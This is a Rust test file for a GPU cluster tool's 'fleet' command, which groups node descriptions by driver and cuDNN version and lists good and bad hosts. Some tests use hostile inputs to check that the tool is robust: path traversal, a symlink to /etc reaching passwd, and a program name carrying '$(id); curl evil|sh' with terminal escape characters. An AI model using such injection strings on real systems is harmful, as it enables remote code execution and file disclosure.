//! Groups of equal nodes, what programs get on each, and the lists of hosts.

use super::{APP, Nodes, node, with_cudnn};
use crate::support::Run;
use crate::support::parts::{elf, text};

fn good(version: &str) -> String {
    node("580.95.05", "", &with_cudnn(version))
}

#[test]
fn equal_nodes_are_one_row_and_others_are_told_apart() {
    let of_slurm = |name: &str| {
        let env = format!("SLURMD_NODENAME = 'yes'\n\"SLURM_LOCALID\" = '{name}'");
        node("580.95.05", &env, &with_cudnn("9.19.0"))
    };
    let nodes = Nodes::new(&[
        ("gpu01", of_slurm("1")),
        ("gpu02", of_slurm("2")),
        ("gpu03", of_slurm("3")),
        ("gpu07", node("550.90.07", "", &with_cudnn("9.19.0"))),
        ("gpu08", node("580.95.05", "", &[])),
    ]);
    let page = nodes.fleet(&[]).status(1).any_stdout().check();
    for part in [
        "`app --serve` works on 4 of 5 machines",
        "gpu[01-03]  3  580.95.05",
        "gpu07       1  550.90.07",
        "cuDNN 9.19.0",
        "2.35",
        "gpu07  driver 550.90.07, where 3 of 5 have 580.95.05",
        "gpu08  cuDNN none, where 3 of 5 have 9.19.0 (loose)",
        "gpu08.toml explain app --serve",
    ] {
        assert!(page.contains(part), "{part}\n{page}");
    }
    let json = nodes.fleet(&["--json"]).status(1).json();
    assert_eq!(json["good"], "gpu[01-03,07]");
    assert_eq!(json["bad"], "gpu08");
    assert_eq!(json["groups"][0]["machines"].as_array().unwrap().len(), 3);
    assert_eq!(json["groups"][0]["programs"][0]["command"], APP);
    nodes
        .fleet(&["--good"])
        .status(1)
        .stdout("gpu[01-03,07]\n")
        .check();
    nodes.fleet(&["--bad"]).status(1).stdout("gpu08\n").check();
}

#[test]
fn differences_are_told_only_from_a_usual_machine() {
    let kinds = |names: &[&str]| {
        let drivers = ["535.261.03", "550.90.07", "580.95.05", "570.86.15"];
        let each = names.iter().zip(drivers);
        let nodes: Vec<(&str, String)> = each
            .map(|(name, driver)| (*name, node(driver, "", &with_cudnn("9.19.0"))))
            .collect();
        let page = Nodes::new(&nodes).fleet(&[]).any_stdout().check();
        let (_, differences) = page.split_once("\ndifferences\n").unwrap();
        differences.to_owned()
    };
    let two = kinds(&["n1", "n2"]);
    assert!(
        two.starts_with("  n2  driver 550.90.07, where n1 has 535.261.03\n"),
        "{two}"
    );
    let four = kinds(&["n1", "n2", "n3", "n4"]);
    assert!(four.starts_with("  4 kinds  `cudarun fleet "), "{four}");
    assert!(
        four.contains("n1.toml ") && four.contains("n2.toml` shows how two differ"),
        "{four}"
    );
    assert!(!four.contains(" have "), "{four}");
}

#[test]
fn one_gpu_of_many_does_not_tell_nodes_apart() {
    let gpu = |uuid: &str| {
        let about = format!(
            "Model: NVIDIA H100\nGPU UUID: GPU-{uuid}\nBus Location: 0000:01:00.0\nDevice Minor: 0\n"
        );
        let more = [text(
            "/proc/driver/nvidia/gpus/0000:01:00.0/information",
            &about,
        )];
        node(
            "580.95.05",
            "",
            &[&with_cudnn("9.19.0")[..], &more].concat(),
        )
    };
    let (one, other) = (
        "11111111-2222-3333-4444-555555555555",
        "aaaaaaaa-2222-3333-4444-555555555555",
    );
    let nodes = Nodes::new(&[("a1", gpu(one)), ("a2", gpu(other))]);
    nodes
        .fleet(&[])
        .stdout_contains(&["works on all of 2 machines", "a[1-2]"])
        .check();
    // A variable that names the GPU of the node, by the beginning of its number too, does not tell nodes apart either.
    let env = |uuid: &str| {
        gpu(uuid).replace(
            "[env]",
            &format!("[env]\nCUDA_VISIBLE_DEVICES = 'GPU-{}'", &uuid[..13]),
        )
    };
    nodes.put("a1.toml", &env(one));
    nodes.put("a2.toml", &env(other));
    nodes
        .fleet(&[])
        .stdout_contains(&["works on all of 2 machines", "a[1-2]"])
        .check();
    // It does where it names the GPU of another node, which hides the own one.
    nodes.put(
        "a2.toml",
        &gpu(other).replace(
            "[env]",
            &format!("[env]\nCUDA_VISIBLE_DEVICES = 'GPU-{one}'"),
        ),
    );
    nodes.fleet(&["--bad"]).status(1).stdout("a2\n").check();
    nodes.put("a1.toml", &gpu(one));
    // The control: another model is another group.
    nodes.put("a2.toml", &gpu(other).replace("H100", "A100"));
    let json = nodes.fleet(&["--json"]).json();
    assert_eq!(json["groups"].as_array().unwrap().len(), 2, "{json:#}");
}

#[test]
fn all_programs_must_work_and_an_empty_list_prints_nothing() {
    let more = || {
        good("9.19.0").replace(
            &format!("['{APP}']"),
            &format!("['{APP}', 'app', 'app --other', 'absent']"),
        )
    };
    let nodes = Nodes::new(&[("n1", more()), ("n2", more())]);
    let only = ["--program", APP];
    nodes
        .fleet(&[&only[..], &["--bad"]].concat())
        .stdout("")
        .check();
    nodes
        .fleet(&[&only[..], &["--good"]].concat())
        .stdout("n[1-2]\n")
        .check();
    let other = ["--program", "app", "--program", "app --other"];
    nodes
        .fleet(&other)
        .stdout_contains(&["all 2 programs work on all of 2 machines"])
        .check();
    let absent = ["--program", "app", "--program", "absent"];
    nodes
        .fleet(&absent)
        .status(1)
        .stdout_contains(&["no: the program is not there"])
        .check();
    nodes
        .fleet(&[&absent[..], &["--good"]].concat())
        .status(1)
        .stdout("")
        .check();
    nodes
        .fleet(&[&absent[..], &["--bad"]].concat())
        .status(1)
        .stdout("n[1-2]\n")
        .check();
    for wrong in ["", "app 'x"] {
        nodes
            .fleet(&["--program", wrong])
            .status(2)
            .stderr_contains(&["--program"])
            .check();
    }
}

#[test]
fn a_node_without_a_gpu_is_bad_whatever_its_programs_need() {
    let without = good("9.19.0")
        .replace("/dev/nvidia0", "/dev/other")
        .replace("/sys/module/nvidia/version", "/x");
    let nodes = Nodes::new(&[("login1", without), ("gpu1", good("9.19.0"))]);
    nodes.fleet(&["--bad"]).status(1).stdout("login1\n").check();
    nodes.fleet(&["--good"]).status(1).stdout("gpu1\n").check();
}

#[test]
fn descriptions_that_cannot_be_used_are_named_and_count_as_bad() {
    let nodes = Nodes::new(&[("n1", good("9.19.0"))]);
    let hostile = [
        (
            "n2",
            "about = 'x'\n[[file]]\npath = '/../../escaped'\ntext = 'x'\n",
            "`..`",
        ),
        ("n3", "not toml", "line 1"),
        (
            "n4",
            "about = 'x'\nformat = 99\nmore = 1\n",
            "newer cudarun",
        ),
        ("n5", "", "about"),
        (
            "n6",
            "about = 'x'\n[[file]]\npath = '/a'\nlink = '/etc'\n[[file]]\npath = '/a/passwd'\ntext = 'x'\n",
            "/a",
        ),
    ];
    for (name, text, _) in &hostile {
        nodes.put(&format!("{name}.toml"), text);
    }
    nodes.put("note.txt", "no description");
    let page = nodes.fleet(&[]).status(2).any_stdout().check();
    for (name, _, why) in &hostile {
        let line = page
            .lines()
            .find(|line| line.contains(&format!("{name}.toml:")));
        assert!(
            line.is_some_and(|line| line.contains(why)),
            "{name}: {why}\n{page}"
        );
    }
    assert!(
        page.contains("works on 1 of 1 machine") && !page.contains("note.txt"),
        "{page}"
    );
    nodes
        .fleet(&["--bad"])
        .status(2)
        .stdout("n[2-6]\n")
        .any_stderr()
        .check();
    nodes
        .fleet(&["--good"])
        .status(2)
        .stdout("n1\n")
        .any_stderr()
        .check();
    assert!(!nodes.path("../escaped").exists());
    let absent = nodes.path("absent");
    let absent = absent.to_str().unwrap();
    Run::new(["fleet", absent])
        .status(2)
        .stdout_contains(&["no description", absent])
        .check();
    let file = nodes.path("n1.toml");
    Run::new(["fleet", file.to_str().unwrap()])
        .stdout_contains(&["works on 1 of 1 machine"])
        .check();
    Run::new(["fleet"])
        .status(2)
        .stderr_contains(&["PATH"])
        .check();
    Run::new(["--root", "/", "fleet", "."])
        .status(2)
        .stderr_contains(&["--root"])
        .check();
}

#[test]
fn two_descriptions_of_one_name_are_told() {
    let (a, b) = (
        Nodes::new(&[("n1", good("9.19.0"))]),
        Nodes::new(&[("n1", good("9.10.2"))]),
    );
    let (a, b) = (a.path(""), b.path(""));
    let run = Run::new(["fleet", a.to_str().unwrap(), b.to_str().unwrap()]);
    run.status(2)
        .stdout_contains(&[
            "works on 1 of 1 machine",
            "describes a machine of this name",
        ])
        .check();
    Run::new(["fleet", a.to_str().unwrap(), a.to_str().unwrap()])
        .stdout_contains(&["1 machine"])
        .check();
}

#[test]
fn a_program_of_another_c_library_than_nvidias_does_not_work() {
    let musl = |needed: &str| {
        let fields = format!("interpreter = '/lib/ld-musl-x86_64.so.1', needed = {needed}");
        good("9.19.0").replace(APP, "small")
            + &elf("/usr/bin/small", &fields)
            + &elf("/usr/lib/ld-musl-x86_64.so.1", "")
    };
    let nodes = Nodes::new(&[("n1", musl("['libcudnn.so.9']"))]);
    nodes
        .fleet(&[])
        .status(1)
        .stdout_contains(&["NVIDIA has no libraries for that C library"])
        .check();
    // The control: it needs none.
    nodes.put("n1.toml", &musl("['libz.so.1']"));
    nodes
        .fleet(&[])
        .stdout_contains(&["works on 1 of 1 machine"])
        .check();
}

#[test]
fn text_of_a_description_is_shown_and_is_no_command() {
    let named = |line: &str| good("9.19.0").replace(&format!("'{APP}'"), &format!("\"{line}\""));
    let hostile = r"app \u001b[31m --x\u202e $(id); curl evil|sh";
    let nodes = Nodes::new(&[
        (
            "n1",
            named(hostile).replace("/usr/bin/app", "/usr/bin/other"),
        ),
        ("n2", named(hostile)),
    ]);
    for options in [&[][..], &["--markdown"]] {
        let page = nodes.fleet(options).status(1).any_stdout().check();
        assert!(
            !page.contains(['\u{1b}', '\u{202e}']) && page.contains(r"u{202e}"),
            "{page:?}"
        );
        assert!(
            page.contains("'$(id);' curl 'evil|sh'"),
            "the words of the next command are quoted: {page}"
        );
    }
    // The control: a usual command line is not changed.
    nodes.put(
        "n1.toml",
        &good("9.19.0").replace("/usr/bin/app", "/usr/bin/other"),
    );
    nodes.put("n2.toml", &good("9.19.0"));
    nodes
        .fleet(&[])
        .status(1)
        .stdout_contains(&["n1.toml explain app --serve\n"])
        .check();
    // No machine can have such a name.
    for name in ["n\u{1b}[31m3", "n4\n", "n 5", "ä"] {
        nodes.put(&format!("{name}.toml"), &good("9.19.0"));
    }
    let page = nodes.fleet(&[]).status(2).any_stdout().check();
    assert!(
        !page.contains('\u{1b}')
            && page.contains("works on 1 of 2 machines; not read: 4 descriptions"),
        "{page:?}"
    );
    nodes
        .fleet(&["--bad"])
        .status(2)
        .stdout("n1\n")
        .any_stderr()
        .check();
}

#[test]
fn groups_that_differ_in_builds_alone_are_told_apart() {
    let built = |id: &str| {
        let built = format!("soname = 'libcudnn.so.9', build_id = '{id}',");
        good("9.19.0").replace("soname = 'libcudnn.so.9',", &built)
    };
    let nodes = Nodes::new(&[
        ("n1", built("aa")),
        ("n2", built("aa")),
        ("n3", built("bb")),
    ]);
    nodes
        .fleet(&[])
        .stdout_contains(&["n3  other builds of cuDNN than 2 of 3 have"])
        .check();
    nodes.put("n3.toml", &(built("aa") + &text("/etc/other", "x")));
    nodes
        .fleet(&[])
        .stdout_contains(&["n3  no difference for GPU programs"])
        .check();
}

#[test]
fn a_place_without_descriptions_leads_to_the_command_that_writes_them() {
    let nodes = Nodes::new(&[]);
    let said = [
        "no description of a machine was read",
        "next: cudarun doctor --save-in DIR, on each machine",
    ];
    nodes.fleet(&[]).status(2).stdout_contains(&said).check();
    let absent = nodes.path("absent.d");
    Run::new(["fleet", "--bad", absent.to_str().unwrap()])
        .status(2)
        .any_stderr()
        .check();
    let hint = format!("mkdir -p {}", absent.display());
    Run::new(["doctor", "--save-in", absent.to_str().unwrap()])
        .status(2)
        .stderr_contains(&[&hint])
        .check();
    nodes.put("n1.toml", &good("9.19.0").replace(&format!("'{APP}'"), ""));
    let lock = nodes.path("x.lock");
    let run = nodes.fleet(&["--lock", lock.to_str().unwrap()]).status(2);
    run.stderr_contains(&["--lock needs exactly one program, and the descriptions name none"])
        .check();
}

#[test]
fn a_description_that_grows_without_bounds_is_not_made() {
    let many = |text: &str, count: usize| text.repeat(count);
    let file = |path: &str, content: &str, each: &str| {
        good("9.19.0") + &format!("[[file]]\npath = '{path}'\n{content}\neach = ['{each}']\n")
    };
    let long = many("a", 1_000_000);
    let nodes = Nodes::new(&[
        (
            "n1",
            file(&format!("/{}", many("{name}", 20_000)), "text = ''", &long),
        ),
        (
            "n2",
            file("/a", &format!("link = '{}'", many("{name}", 20_000)), &long),
        ),
        (
            "n3",
            file(
                "/a",
                &format!("elf = {{ soname = '{}' }}", many("{name}", 20_000)),
                &long,
            ),
        ),
        // The control.
        ("n4", file("/a/{name}{name}", "text = ''", &many("a", 100))),
    ]);
    let page = nodes.fleet(&[]).status(2).any_stdout().check();
    for key in ["path", "link", "soname"] {
        assert!(
            page.contains(&format!("`{key}` is longer than 4096 bytes")),
            "{page}"
        );
    }
    nodes
        .fleet(&["--good"])
        .status(2)
        .stdout("n4\n")
        .any_stderr()
        .check();
}
